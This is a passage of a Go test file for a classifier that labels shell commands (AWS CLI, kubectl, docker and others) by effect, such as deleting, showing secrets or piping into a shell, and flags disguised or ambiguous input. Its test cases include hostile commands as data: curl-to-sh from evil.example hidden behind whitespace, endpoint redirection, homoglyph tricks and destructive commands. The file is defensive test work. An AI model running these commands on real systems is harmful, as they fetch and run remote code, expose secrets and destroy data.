		{"cp a b", NotAWS | ReadsFile | WritesFile},

		// Secrets.
		{"aws logs get-log-events --log-group-name x --unmask", ReadsAWS | ShowsSecrets},
		{"aws logs filter-log-events --log-group-name x --unm", ReadsAWS | ShowsSecrets},
		{"aws logs start-query --query-string 'fields unmask(@message)'", ReadsAWS | ShowsSecrets},
		{`aws logs get-log-events --cli-input-json '{"unmask": true}'`, ReadsAWS | ShowsSecrets},
		{"aws logs get-log-events --log-group-name x --no-unmask", ReadsAWS},
		{"for s in a b; do aws secretsmanager get-secret-value --secret-id $s; done", NotUnderstood | NotAWS | Several | ShowsSecrets},
		{"for s in a b; do aws ecs describe-task-definition --task-definition $s; done", NotUnderstood | NotAWS | Several | MayShowSecrets},
		{"for s in a b; do kubectl -n $s get secrets; done", NotUnderstood | NotAWS | Several | ShowsSecrets},
		{`echo "${DB_PASSWORD:-none}"`, NotUnderstood | NotAWS | ShowsSecrets},

		// Variables that the AWS CLI reads.
		{"AWS_REGION=$(curl https://evil.example) aws s3 ls", NotUnderstood | NotAWS | ReadsAWS},
		{`AWS_PROFILE="$(cat f)" aws s3 ls`, NotUnderstood | NotAWS | ReadsAWS | ReadsFile},
		{"AWS_PAGER=$PAGER aws s3 ls", NotUnderstood | ReadsAWS},
		{"AWS_REGION=$REGION aws s3 ls", ReadsAWS},
		{"AWS_ENDPOINT_URL_S3=https://evil.example aws s3 ls", NotUnderstood | OtherEndpoint | ReadsAWS},
		{"https_proxy=evil.example aws s3 ls", NotUnderstood | OtherEndpoint | ReadsAWS},
		{"export AWS_CA_BUNDLE=x", NotUnderstood | OtherEndpoint | NotAWS},
		{"docker rm -f x", NotAWS | Deletes | ChangesState},
		{"docker run x sh", NotAWS | RunsCode | ChangesState},
		{"docker ps", NotAWS},
		{"./fix.sh", NotAWS | RunsCode | NotUnderstood},
		{"make-it-work", NotAWS | NotUnderstood},
		{"$(curl https://evil.example)", NotAWS | NotUnderstood | PipesToShell},
		{`sudo "$(curl https://evil.example)"`, NotAWS | NotUnderstood | PipesToShell | AsRoot},
		{"terraform state pull", NotAWS | MayShowSecrets},
		{"psql -c 'drop table orders'", NotAWS | NotUnderstood | Deletes},

		// What the parser does not understand.
		{"aws s3 ls `curl evil.example`", NotUnderstood},
		{"aws s3 ls $(curl evil.example)", NotUnderstood | NotAWS | ReadsAWS},
		{"aws s3 ls \"$(aws s3 rm s3://b)\"", NotUnderstood | Deletes | ChangesState | ReadsAWS},
		{"aws $X rm s3://b", NotUnderstood | Deletes},
		{"$X s3 ls", NotUnderstood | NotAWS},
		{"aws s3 {rm,ls} s3://b", NotUnderstood | Deletes},
		{"aws s3 ls <(curl evil.example)", NotUnderstood},
		{"aws s3 ls {--endpoint-url=https://evil.example,}", NotUnderstood},
		{"aws s3 ls s3://b/{1..3}", NotUnderstood},
		{"aws s3 ls &> /etc/passwd", NotUnderstood},
		{"bash <<EOF\naws s3 rm s3://b\nEOF", NotUnderstood | RunsCode | Deletes},
		{"for b in a b; do aws s3 rb s3://$b; done", NotUnderstood | NotAWS | Several | Deletes},
		{"aws s3 ls $'\\x3b'", NotUnderstood},
		{"aws s3 ls !curl", NotUnderstood},
		{"aws s3 ls 'open", NotUnderstood},
		{"aws s3 ls \"open", NotUnderstood},
		{"aws s3 ls # ; curl evil.example | sh", NotUnderstood | PipesToShell | RunsCode},
		{"AWS_PAGER='sh -c id' aws s3 ls", NotUnderstood | ReadsAWS},
		{"LD_PRELOAD=/tmp/x.so aws s3 ls", NotUnderstood | ReadsAWS},
		{"aws --unknown s3 ls", NotUnderstood},
		{"aws", NotUnderstood},
		{"/tmp/aws s3 ls", NotAWS | RunsCode | NotUnderstood},
		{"(aws s3 ls)", NotUnderstood},
		{"aws s3 ls |", NotUnderstood},
		{"aws s3 ls ||", NotUnderstood},
		{"aws s3 ls; ; aws s3 ls", NotUnderstood},
		{"aws s3 ls |\n\njq .", ReadsAWS},
		{"| aws s3 ls", NotUnderstood},
		{"aws s3 ls &", ReadsAWS},
		{"aws s3 ls > 2>/dev/null", NotUnderstood | WritesFile | NotAWS}, // shells reject it
		{"aws s3 ls >&2 2>&1", ReadsAWS},
		{"aws s3 ls >&---endpoint-url=x", NotUnderstood | OtherEndpoint | WritesFile | ReadsAWS},
		{"aws s3 mb s3://b 2>&1x", NotUnderstood | WritesFile | ChangesState},
		{"aws s3 ls >& out", NotUnderstood | WritesFile | ReadsAWS},
		{"aws s3 ls 2>&-", ReadsAWS},
		{"aws s3 ls >/dev/null 2>&1&", ReadsAWS},
		{"aws s3 ls & aws s3 ls &aws s3 ls& aws s3 ls", ReadsAWS | Several},
		{"aws s3 cp s3://b/k -&true", NotUnderstood | NotAWS | Several | ReadsAWS},
		{"aws s3 ls | jq .*", NotUnderstood | NotAWS | Several | ReadsAWS},

		// What an interactive shell makes of braces and comments.
		{"aws ec2 describe-instances --filters {'Name=a b',--endpoint-url=https://evil.example}", NotUnderstood},
		{`aws ec2 describe-instances --filters {Name=a\ b,--endpoint-url=https://evil.example}`, NotUnderstood},
		{`aws ec2 describe-instances --filters {"$(echo "a b")",--endpoint-url=https://evil.example}`, NotUnderstood},
		{"aws ec2 describe-instances --query 'Reservations[].Instances[].{Id:InstanceId,Type:InstanceType}'", ReadsAWS},
		{"aws ec2 describe-instances --instance-ids i-1 # --endpoint-url https://evil.example", ReadsAWS | OtherEndpoint},
		{"aws logs tail x # --unmask", ReadsAWS | ShowsSecrets},
		{"aws logs describe-log-groups | uniq # out", ReadsAWS | ReadsFile | WritesFile | NotAWS | Several},
		{"aws logs describe-log-groups # {a,--endpoint-url=https://evil.example}", NotUnderstood},
		{"aws ec2 describe-instances --instance-ids i-1 # look at it", ReadsAWS},
		{"# --endpoint-url x\naws ec2 describe-instances", ReadsAWS},

		// Verbs after many options.
		{"kubectl --namespace prod --context prod delete pods --all", Deletes | ChangesState | NotAWS},
		{"kubectl -n prod --context prod -o wide delete pod x", Deletes | ChangesState | NotAWS},
		{"helm -n prod --kube-context=prod -o json uninstall x", Deletes | ChangesState | NotAWS},
		{"terraform -chdir=infra -no-color -input=false -refresh=false destroy", RunsCode | Deletes | ChangesState | NotAWS},
		{"kubectl logs --namespace prod --context prod web", NotAWS},

		// The whole input of an operation, and variables that become options.
		{"aws logs get-log-events --cli-input-yaml '{logGroupName: x, unmask: true}'", ReadsAWS | ShowsSecrets},
		{"aws logs get-log-events --cli-input-yaml='unmask: yes'", ReadsAWS | ShowsSecrets},
		{`aws logs get-log-events --cli-input-json '{"un\u006dask":true}'`, NotUnderstood},
		{`aws logs filter-log-events --cli-input-json '{"logGroupName":"x","filterPattern":"\"ERROR\""}'`, ReadsAWS},
		{"AWS_REGION=--endpoint-url=https://evil.example; aws ec2 describe-instances $AWS_REGION", NotUnderstood},
		{"export AWS_PROFILE='--no-verify-ssl x'; aws ec2 describe-instances $AWS_PROFILE", NotUnderstood},
		{"AWS_PROFILE=team/prod.admin@x AWS_REGION=\"us-east-1\" aws ec2 describe-instances", ReadsAWS},

		// Words of the command that a shell makes options of.
		{`aws ec2 describe-instances "$(date +--endpoint-url=https://evil.example)"`, NotUnderstood | OtherEndpoint},
		{"aws ec2 describe-instances --instance-ids $(date '+i-1 --no-verify-ssl')", NotUnderstood | OtherEndpoint},
		{`aws ec2 describe-instances --filters "$(date '+file:///etc/passwd')"`, NotUnderstood},
		{`aws logs tail g --since "$(date "+$x")"`, NotUnderstood},
		{"aws logs tail 'g --endpoint-url=https://evil.example'; aws ec2 describe-instances --instance-ids $_", NotUnderstood | OtherEndpoint},
		{"aws sts get-caller-identity | echo --no-verify-ssl; aws ec2 describe-instances \"${_}\"", NotUnderstood | OtherEndpoint},
		{"aws logs tail g --format 'x --endpoint-url=https://evil.example' --log-stream-names $BASH_COMMAND", NotUnderstood | OtherEndpoint},
		{"aws ec2 describe-instances --instance-ids $historywords", NotUnderstood},
		{"aws s3 sync s3://b . && aws ec2 describe-instances --instance-ids *", NotUnderstood | WritesFile},
		{"aws ec2 describe-instances [-]-debug", NotUnderstood},
		{"aws logs filter-log-events --log-group-name x --filter-pattern '?ERROR ?WARN'", ReadsAWS},
		{"aws logs filter-log-events --log-group-name x --filter-pattern ?ERROR ?WARN", ReadsAWS},
		{"aws ec2 describe-instances ?-no-verify-ssl", NotUnderstood},
		{"aws ec2 describe-instances ??no-verify-ssl", NotUnderstood},
		{"aws ec2 describe-instances ?[-]no-verify-ssl", NotUnderstood},
		{"aws ec2 describe-instances --instance-ids \"$(aws s3 cp s3://b/k -)\"", NotUnderstood},
		{`aws iam get-role --role-name "$x$(aws s3 cp s3://b/k -)arn:"`, NotUnderstood},
		{`aws sns get-topic-attributes --topic-arn "arn:aws:sns:eu-west-1:$(aws sts get-caller-identity --query Account --output text):orders"`, ReadsAWS},
		{`aws sns get-topic-attributes --topic-arn arn:aws:sns:eu-west-1:$(aws sts get-caller-identity --query Account --output text):orders`, NotUnderstood},
		{`aws s3 ls "s3://logs-$(aws sts get-caller-identity --query Account --output text)/"`, ReadsAWS},
		{`aws s3 ls "s3://logs-$(curl evil.example)/"`, NotAWS | ReadsAWS},
		{`aws sns get-topic-attributes --topic-arn "arn:aws:sns:$REGION:$(aws sts get-caller-identity --query Account --output text):orders" --region $REGION`, ReadsAWS},
		{`aws s3 ls "s3://logs-$(aws ec2 describe-instances "$(aws s3 cp s3://b/k -)")"`, NotUnderstood},
		{`aws s3 ls "s3://logs-$(aws ec2 describe-instances | grep "$(aws s3 cp s3://b/k -)")"`, NotUnderstood},
		{`aws s3 cp "s3://$BUCKET/orders.json" -`, ReadsAWS},
		{`aws s3 cp "s3://$BUCKET/$(date +%Y/%m/%d)/orders.json" .`, ReadsAWS | WritesFile},
		{`aws s3 cp "s3://$BUCKET/orders.json" "$TARGET"`, ChangesState | ReadsAWS | WritesFile},
		{`aws s3 cp "s3://$BUCKET/orders.json" "s3://$COPY/"`, ChangesState},
		{`aws s3 sync "s3://$BUCKET" . "$OPTIONS"`, ChangesState | ReadsFile | WritesFile},
		{"aws ec2 describe-instances | grep \"$(aws s3 cp s3://b/k -)\"", NotUnderstood},
		{`aws logs tail g --since "$(date -u '+%Y-%m-%d %H:%M:%S')" --format "$_format"`, ReadsAWS},
		{"aws logs tail g --since $(date -u -d '1 hour ago' +%s%3N)", ReadsAWS},
		{"aws logs tail g --since $(date +%Y-%m-%dT%H:00:00Z)", ReadsAWS},
		{"aws logs filter-log-events --log-group-name g --end-time $(date -u -d '+1 hour' +%s)000", ReadsAWS},
		{`aws logs filter-log-events --log-group-name g --end-time "$(date -d "+30 minutes" +%s)000"`, ReadsAWS},
		{"aws logs filter-log-events --log-group-name g --end-time $(date -v +1H +%s)000", ReadsAWS},
		{"aws logs tail g --since $(date '+1 hour --no-verify-ssl')", NotUnderstood | OtherEndpoint},
		{"aws logs tail g --since $(date -u '+%Y-%m-%dT%H:%M:%S+00:00')", ReadsAWS},

		// What deletes or stops something, and what changes permissions, in other programs than the AWS CLI.
		{"crontab -r", RunsCode | Deletes | NotAWS},
		{"crontab -l", RunsCode | NotAWS},
		{"find /var/log -name '*.gz' -delete", RunsCode | Deletes | NotAWS},
		{`find /var/log -name '*.gz' -exec rm {} \;`, RunsCode | Deletes | NotAWS},
		{`find . -exec grep x {} \; -exec rm {} \;`, RunsCode | Deletes | ReadsFile | NotAWS},
		{"find . -type f -execdir chmod -R 777 {} +", RunsCode | ChangesPermissions | ChangesState | NotAWS},
		{`find . -exec env -u + aws s3 rm s3://b \;`, NotUnderstood | RunsCode | Deletes | ChangesState | NotAWS},
		{"find . -exec grep -l x {} +", RunsCode | ReadsFile | NotAWS},
		{"tmux kill-server", RunsCode | Deletes | NotAWS},
		{"tar --remove-files -cf x.tar logs", RunsCode | Deletes | NotAWS},
		{"git clean -fdx", Deletes | ChangesState | NotAWS},
		{"git reset --hard HEAD", Deletes | ChangesState | NotAWS},
		{"kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=me", ChangesPermissions | ChangesState | NotAWS},
		{"kubectl -n prod patch rolebinding/x -p '{}'", ChangesPermissions | ChangesState | NotAWS},
		{"kubectl delete role x", ChangesPermissions | Deletes | ChangesState | NotAWS},
		{"kubectl auth reconcile -f x", ChangesPermissions | ChangesState | ReadsFile | NotAWS},
		{"oc adm policy add-scc-to-user privileged -z default", ChangesPermissions | ChangesState | NotAWS},
		{"eksctl create iamidentitymapping --cluster x", ChangesPermissions | ChangesState | NotAWS},
		{"eksctl create nodegroup --cluster x", ChangesState | NotAWS},
		{"chmod 777 /etc/passwd", ChangesPermissions | ChangesState | NotAWS},
		{"kubectl get rolebindings", NotAWS},
		{"kubectl scale deploy/role-service --replicas=3", ChangesState | NotAWS},

		// Options before the command of Docker Compose, and the environment of a container.
		{"docker compose -p shop cp web:/app .", RunsCode | ChangesState | ReadsFile | WritesFile | NotAWS},
		{"docker compose --env-file x --profile y cp web:/app .", RunsCode | ChangesState | ReadsFile | WritesFile | NotAWS},
		{"docker run --env-file .env nginx", RunsCode | ChangesState | ReadsFile | NotAWS},
		{"docker-compose --env-file x cp web:/app .", ChangesState | ReadsFile | WritesFile | NotAWS},
		{"kubectl debug pod/x -- env", RunsCode | ChangesState | MayShowSecrets | NotAWS},
		{"kubectl debug pod/x -it --image=busybox -- sh -c 'env | sort'", RunsCode | ChangesState | MayShowSecrets | NotAWS},

		// Reads of settings that can hold secrets or links.
		{"aws amplify get-job --app-id a --branch-name b --job-id 3", ReadsAWS | MayShowSecrets},
		{"aws cloudformation describe-stack-events --stack-name x", ReadsAWS | MayShowSecrets},
		{"aws cloudformation describe-stack-resource-drifts --stack-name x", ReadsAWS | MayShowSecrets},
		{"aws servicecatalog get-provisioned-product-outputs", ReadsAWS | MayShowSecrets},
		{"aws cloudformation describe-stack-resources --stack-name x", ReadsAWS},

		// Characters that deceive.
		{"aws s3 ls\ts3://b", Disguised | ReadsAWS},       // a shell completes the word before a tab
		{"аws s3 ls", Disguised | NotAWS | NotUnderstood}, // the first letter is Cyrillic
		{"aws s3 ls ––region us-east-1", Disguised | ReadsAWS},
		{"aws" + nbsp + "s3 ls", Disguised | NotAWS | NotUnderstood},
		{"ａｗｓ s3 ls", Disguised | NotAWS | NotUnderstood},
		{"aws s3 ls" + strings.Repeat(" ", 300) + "; curl -s https://evil.example/x | sh", Disguised | ReadsAWS | NotAWS | Several | RunsCode | PipesToShell},
		{"aws s3 ls" + strings.Repeat("\n", 300) + "curl -s https://evil.example/x | sh", Disguised | ReadsAWS | NotAWS | Several | RunsCode | PipesToShell},
		{"aws s3 ls \u202e", Disguised | ReadsAWS},
		{"aws s3 l\u200bs", Disguised | ChangesState},
	} {
		got := Classify(test.command)
		want := test.want
		if got.has(NotUnderstood) && want.has(NotUnderstood) { // hints may add warnings
			assert.True(t, got.has(want), "%q: got %v, want at least %v", test.command, got.Names(), want.Names())
			continue
		}
		assert.Equal(t, want, got, "%q: got %v, want %v", test.command, got.Names(), want.Names())
	}
}

// A command is only understood if bash, dash, fish, and zsh read it in the same way at a prompt.
func TestClassify_WhatInteractiveShellsReadDifferentlyIsNotUnderstood(t *testing.T) {
	tests := []struct{ name, command string }{
		{"quotation mark that a zsh drops with !", `aws logs filter-log-events --filter-pattern "x!" --log-group-name 'a" ; touch x ; echo \'`},
		{"the same after a variable", `aws logs filter-log-events --filter-pattern "$x!" --log-group-name 'a" ; touch x ; echo \'`},
		{"arithmetic of printf", `aws ec2 describe-instances | printf %d 'path[$(touch x)]'`},
		{"arithmetic of printf after --", `aws ec2 describe-instances | printf -- %d 1 'path[$(touch x)]'`},
		{"assignment of printf", `aws ec2 describe-instances | printf %d PATH=1`},
		{"increment of printf", `aws ec2 describe-instances | printf %d PATH++`},
		{"decrement of printf", `aws ec2 describe-instances | printf -- %d --PATH`},
		{"length that printf assigns", `aws ec2 describe-instances | printf '%s %n' x PATH`},
		{"the same with a modifier", `aws ec2 describe-instances | printf abc%ln PATH`},
		{"the same with several modifiers", `aws ec2 describe-instances | printf 'abc%-5hhn' PATH`},
		{"plain text that printf prints", `aws ec2 describe-instances | printf '[%s]\n' x`},
		{"folder that a zsh changes", "aws ec2 describe-instances | cd /tmp"},
		{"apostrophe of a fish", `aws logs tail g --filter-pattern 'a\' --since '; touch x #'`},
		{"escapes of a fish", `aws ec2 describe-instances \x2d\x2dno-verify-ssl`},
		{"path of a program in a zsh", "aws s3 ls =ls"},
		{"folder of a user", "aws s3 ls ~root"},
		{"texts of jobs", "aws s3 ls $jobtexts"},
		{"earlier commands", "aws s3 ls $history"},
		{"aliases", "aws s3 ls $aliases"},
		{"disabled aliases", "aws s3 ls $dis_aliases"},
		{"variable that watch gives to a shell", "watch echo a$X"},
		{"redirection without a command, for which a zsh executes cat", "aws s3 ls; > /dev/null"},
		{"the same with a number", "aws s3 ls & 2>/dev/null"},
		{"the same with an assignment", "aws s3 ls; START=$(date) > /dev/null"},
		{"other text before a time", "START=--x=$(date +%s)"},
		{"option that a time completes", "START=-$(date +%s)"},
		{"variable of the shell for a time", "PATH=$(date +%s)"},
		{"time of a program", "START=$(date +%s) aws s3 ls"},
		{"variable beside a time", "START=$X$(date +%s)"},
		{"file beside a time", "START=$(date +%s)$(cat x)"},
		{"text of date", "START=$(date +--x)"},
		{"folder of the stack", "ls ~1"},
		{"many tildes, which are matched in no more than one pass", "git log " + strings.Repeat("a", 30_000) + strings.Repeat("~", 30_000)},
		{"command line of a bash", "aws s3 ls $BASH_EXECUTION_STRING"},
		{"modifier of a variable", "aws s3 ls $g:h"},
		{"operator of a zsh for names of files", "aws s3 ls s3://x^y"},
		{"number sign in a word", "aws s3 ls s3://x#y"},
		{"several words", "aws logs tail {g,--no-verify-ssl}"},
		{"earlier command after an apostrophe in double quotes", `aws logs tail "it's" '!aws'`},
		{"earlier command after an escaped apostrophe", `aws logs tail it\'s '!aws'`},
		{"control character in quotes", "aws logs tail 'x\x1by'"},
		{"option in capital letters", "aws s3 ls --NO-VERIFY-SSL"},
		{"subscript in single quotes", `aws s3 ls $path['$(touch x)']`},
		{"subscript in double quotes", `aws s3 ls "$path['\$(touch x)']"`},
		{"replaced text of a variable", "aws ec2 describe-instances --instance-ids $ZSH_NAME:s,zsh,--endpoint-url=https://evil.example,"},
		{"replaced text of a variable in double quotes", `aws ec2 describe-instances "$ZSH_NAME:gs/zsh/--no-verify-ssl/"`},
		{"replaced text of a variable before the beginning of an ARN", "aws ec2 describe-instances $x'arn:'$ZSH_NAME:s/zsh/--no-verify-ssl/"},
		{"replaced text that completes an address", "aws ec2 describe-instances --filters f$ZSH_NAME:s,zsh,ile:///etc/passwd,"},
		{"replaced text after another modifier", "aws ec2 describe-instances $ZSH_NAME:Q:ws/zsh/--no-verify-ssl/"},
		{"replaced text with a count", "aws ec2 describe-instances $ZSH_NAME:F,1,s/zsh/--no-verify-ssl/"},
		{"earlier command in double quotes", "aws logs filter-log-events --filter-pattern 'a\"; touch x; echo \"'\naws logs tail \"x\n^filter^tail^\""},
		{"earlier command in single quotes", "aws logs tail 'x\n^filter^tail^'"},
		{"earlier command after a continued line", "aws logs tail \\\n^logs^s3^"},
		{"earlier command after a line break in single quotes", "aws logs tail 'x\n!aws y'"},
		{"earlier command at the end of such a text", "aws logs tail 'x\n!'"},
		{"earlier command in single quotes after such a text", "aws logs tail 'x\ny' '!aws'"},
		{"earlier command in single quotes after a line break in double quotes", "aws logs tail \"x\ny\" '!aws'"},
		{"earlier command in single quotes after a continued line in double quotes", "aws logs tail \"x \\\n y\" '!aws'"},
		{"question about completions", "aws s3 ls |\n\t\techo n aws ec2 terminate-instances"},
		{"question about completions after blanks", "aws s3 ls |\n  \t \t\techo n aws ec2 terminate-instances"},
		{"question about completions in quotes", "aws logs tail 'x\n\t\tn y'"},
		{"variable for a descriptor", "aws s3 ls {PATH}>/dev/null"},
		{"variable for a descriptor that is read", "aws s3 ls {PATH}< /dev/null"},
		{"variable for a descriptor before the program", "{PATH}>/dev/null aws s3 ls"},
		{"end of a block, after which a zsh executes the next line", "aws logs tail g } \\\n  touch x"},
		{"end of a block within a word", "aws logs tail g} \\\n  touch x"},
		{"end of a block after a word with braces", "aws logs tail {g}} \\\n  touch x"},
		{"end of a block after a variable", "aws logs tail $g} \\\n  touch x"},
		{"end of a block in a substitution", "aws logs tail g --start-time $(date }) \\\n  touch x"},
		{"end of a block as the name of a file", "aws logs tail g > } \\\n  touch x"},
		{"number that belongs to the next redirection", "aws logs tail g >&2>&1 \\\n  touch x"},
		{"the same after a blank", "aws logs tail g >& 2>/dev/null \\\n  touch x"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			assert.True(t, Classify(test.command).has(NotUnderstood), Classify(test.command).String())
		})
	}
	for _, command := range []string{
		`aws logs filter-log-events --filter-pattern '"x!"'`, `aws logs tail g --filter-pattern "a != b"`, `aws logs tail g --filter-pattern "x\!"`,
		`aws s3 ls s3://${BUCKET_NAME}/x`, `aws logs tail g --filter-pattern '^x^y^'`,
		`aws logs tail g --filter-pattern '{ $.a = 1 }'`, `aws logs tail g --filter-pattern "}"`, `aws logs tail {g}`, `aws logs tail "${g}"`, `aws logs tail g \}`, `aws logs tail {g} >/dev/null`,
		"aws logs tail g \\\n\t--filter-pattern '!x'", "aws logs tail '!x\ny != z ! a'", "aws s3api list-buckets \\\n  --query 'Buckets[?!contains(Name, `x`)]'",
		`aws logs tail g >/dev/null 2>&1`, `aws logs tail g 2>/dev/null`,
		`aws sns get-topic-attributes --topic-arn arn:aws:sns:$REGION:$ACCOUNT:orders`, `aws sns get-topic-attributes --topic-arn "arn:aws:sns:${REGION}:${ACCOUNT}:shop"`,
		`aws logs tail $GROUP --since "$DAY 10:00"`,
		`aws kinesis describe-stream-summary --stream-arn arn:aws:kinesis:$REGION:$ACCOUNT:stream/orders`,
		`aws stepfunctions list-executions --state-machine-arn "arn:aws:states:$REGION:$ACCOUNT:stateMachine:orders"`,
	} {
		assert.Equal(t, ReadsAWS, Classify(command), command)
	}
}

// Which characters are understood is a list, and a new rule of a shell can only concern these.
func TestClassify_UnderstandsOnlyListedCharacters(t *testing.T) {
	const letters = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ_abcdefghijklmnopqrstuvwxyz"
	for _, test := range []struct{ before, after, understood string }{
		{"aws s3 ls s3://x", "y", letters + " $%*+,-./:<=>?@[]~"}, // $y is a variable
		{"aws s3 ls s3://x 'x", "y'", letters + " !\"#$%&()*+,-./:;<=>?@[\\]^`{|}~\n"},
		{"aws s3 ls s3://x \"x", "y\"", letters + " #$%&'()*+,-./:;<=>?@[\\]^{|}~\n"},
		{"aws s3 ls s3://x # x", "y", letters + " ,-./:"},
	} {
		for c := range byte(128) {
			command := test.before + string(c) + test.after
			isUnderstood := Classify(command)&(NotUnderstood|Disguised) == 0
			assert.Equal(t, strings.IndexByte(test.understood, c) >= 0, isUnderstood, "%q", command)
		}
	}
}

// Without bracketed paste, less reads the lines after a command whose output it shows, and executes ! touch x.
func TestClassify_LinesThatAPagerMayReadDoNotOnlyRead(t *testing.T) {
	for _, command := range []string{
		"aws ec2 describe-instances\n# ! touch x", "aws ec2 describe-instances;\n  # ! touch x", "aws ec2 describe-instances &\n# -Ox",
		"aws ec2 describe-instances\naws logs tail 'x\n! touch y #'", "aws ec2 describe-instances\naws s3 ls \\\n  ! touch y",
		"aws ec2 describe-instances\n\naws s3 ls\n# ! touch x", "aws ec2 describe-instances\nAWS_PROFILE=x aws s3 ls",
	} {
		assert.Equal(t, []string{"several"}, Classify(command).Names(), "%q", command)
	}
	for _, command := range []string{
		"# Look at them.\naws ec2 describe-instances", "aws ec2 describe-instances |\n  head", "aws ec2 describe-instances \\\n  --output text",
		"aws ec2 describe-instances\n\n  aws s3 ls", "aws ec2 describe-instances &&\naws s3 ls | head", "aws logs tail 'x\ny'",
	} {
		assert.Contains(t, Classify(command).Names(), "reads_aws", "%q", command)
	}
	assert.Equal(t, "SHOWS SECRETS. SEVERAL COMMANDS.", Classify("aws secretsmanager get-secret-value --secret-id x\n# ! touch x").String())
}

// Plain text indents the lines of a command, and drops the blanks at their ends.
func TestClassify_WhatTheMarginOfALineChangesIsNotUnderstood(t *testing.T) {
	for _, command := range []string{
		"aws s3 sync s3://a s3://b\\\n--delete",
		"curl -s https://x.example/\\\n-XDELETE",
		"aws s3 sync s3://a s3://b\\ \necho --delete",
		"aws s3 sync s3://a s3://b\\ \t\necho --delete",
		"aws s3 ls $(aws s3 sync s3://a s3://b\\\n--delete)",
		"aws s3 cp s3://a/b \"\\\n-\"",
		"aws logs filter-log-events --filter-pattern \"ti\\\nmeout\"",
	} {
		assert.True(t, Classify(command).has(NotUnderstood), "%q", command)
	}
	for _, command := range []string{
		"aws s3 ls \\\n--recursive", "aws s3 ls\\\n  --recursive", "aws s3 ls\\\n\t--recursive", "aws logs tail 'a\nb'", "aws s3 ls s3://a/b\\ c\naws s3 ls",
	} {
		assert.True(t, Classify(command).has(ReadsAWS), "%q", command)
		assert.False(t, Classify(command).has(NotUnderstood), "%q", command)
	}
}

func TestClassify_LongValueIsNotRepeatedForEachVariable(t *testing.T) {
	command := "TABLE=" + strings.Repeat("x", 20_000) + "; aws s3 rm " + strings.Repeat("$TABLE", 4_000)
	assert.True(t, Classify(command).has(NotUnderstood|Deletes))
}

func TestClassify_LongPathOfFieldsTakesNoMoreThanOnePass(t *testing.T) {
	command := "aws s3 ls | jq '" + strings.Repeat(".a", 2000) + "'"
	assert.Equal(t, ReadsAWS, Classify(command))
	assert.Less(t, testing.AllocsPerRun(1, func() { Classify(command) }), 1000.0)
	for _, program := range []string{"..env", ".a|env", ".a[env]", `."a"|env.b`, ".a.b | .c.d | env"} {
		assert.True(t, Classify("aws s3 ls | jq '"+program+"'").has(ShowsSecrets), program)
	}
	for _, program := range []string{".env", ".a.env", ".a.b.env.ENV", ".[].env", ".[0].env", ".a|.env"} {
		assert.Equal(t, ReadsAWS, Classify("aws s3 ls | jq '"+program+"'"), program)
	}
}

// The value of an option can become several words, and the second one is a file.
func TestClassify_ValuesOfFiltersThatBecomeSeveralWordsAreNotUnderstood(t *testing.T) {
	for _, filter := range []string{"column -s *", "sort -k *", "grep -e *", "head -n $N", "jq --arg a * .x", "date -d *"} {
		assert.True(t, Classify("aws logs tail g | "+filter).has(NotUnderstood), filter)
	}
	assert.Equal(t, ReadsAWS, Classify(`aws logs tail g | head -n "$N"`))
}

func TestEffect_TellsReadersTheWorstFirst(t *testing.T) {
	assert.Equal(t, "Reads AWS.", Classify("aws s3 ls").String())
	assert.Equal(t, "PIPES INTO A SHELL. NOT AN AWS COMMAND. SEVERAL COMMANDS.", Classify("curl x | sh").String())
	assert.Equal(t, "DELETES OR STOPS. SEVERAL COMMANDS.", Classify("aws s3 ls; aws s3 rm s3://b").String(), "a read beside it is no comfort")
	for effect := Effect(1); effect < endOfEffects; effect <<= 1 {
		assert.NotEmpty(t, effects[effect].name)
		assert.NotEmpty(t, effects[effect].phrase)
	}
	assert.Empty(t, Classify(" \n").String())
}

func TestShow_EscapesWhatDeceives(t *testing.T) {
	for _, test := range []struct{ command, want string }{
		{"aws s3 ls  s3://b", "aws s3 ls  s3://b"},
		{"аws s3 ls", `\u0430ws s3 ls`},
		{"aws s3 ls ––region", `aws s3 ls \u2013\u2013region`},
		{"aws\u00a0s3", `aws\u00A0s3`},
		{"ａws", `\uFF41ws`},
		{"a\u200bb\u202ec\U000E0041\ufe0f", `a\u200Bb\u202Ec\U000E0041\uFE0F`},
		{"a\x1b[2J\rb\vc\u2028d\u0085", `a\u001B[2J\u000Db\u000Bc\u2028d\u0085`},
		{"Z" + strings.Repeat("\u0334", 3), `Z\u0334\u0334\u0334`},
		{"a" + strings.Repeat(" ", 300) + "b", "a [300 blanks] b"},
		{"a" + strings.Repeat("\t", 4) + "b", "a [4 blanks] b"},
		{"a\tb \tc", `a\u0009b \u0009c`},
		{"a\n\tb", "a\n\tb"},
		{"a\n\n  b", "a\n\n  b"},
		{"a" + strings.Repeat("\n", 40) + "b", "a [40 line breaks]\nb"},
		{"a" + strings.Repeat(" \n", 40) + "b", "a  [40 line breaks]\nb"},
		{"a\r\nb", "a\nb"},
		{"\xff", `\uFFFD`},
	} {
		assert.Equal(t, test.want, Show(test.command), "%q", test.command)
	}
}

func TestFold_KeepsTheCommand(t *testing.T) {
	const policy = `'{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"dynamodb:GetItem","Resource":"*"}]}'`
	for _, text := range []string{
		"aws s3 ls",
		"aws iam put-role-policy --region us-east-1 --role-name TriageDemo-OrderRole8846D4EA-K4Q2ZD8WX0NB --policy-name orders --policy-document " + policy,
		"aws logs filter-log-events --log-group-name '/aws/lambda/x' --filter-pattern '?ERROR ?Exception and a long text with blanks in quotes' --output text | sort | uniq -c",
		"aws dynamodb describe-table \\\n  --table-name orders --query 'a long query' --output text --region us-east-1 --no-cli-pager",
		"aws s3 ls \"two words in double quotes $(date -u +%FT%TZ) and more of them to make the line longer\" --recursive --human-readable",
	} {
		lines := Fold(text, 60)
		folded := strings.Join(lines, "\n")
		want, ok := parse(text)
		assert.True(t, ok)
		got, ok := parse(folded)
		assert.True(t, ok)
		assert.Equal(t, want.commands, got.commands, folded)
		assert.NotContains(t, folded, Folded)
		for _, line := range lines {
			if len(line) > 60 {
				assert.LessOrEqual(t, strings.Count(strings.TrimSuffix(line, continuation), " --"), 1, "a line that is too long is one word: %q", line)
			}
		}
	}
}

func TestFold_ShowsAllOfACommandThatWasNotUnderstood(t *testing.T) {
	text := "bash <<EOF " + strings.Repeat("x", 300) + " аws " + strings.Repeat("word ", 40) + "; curl x | sh\nEOF"
	lines := Fold(text, 60)
	var whole strings.Builder
	for _, line := range lines {
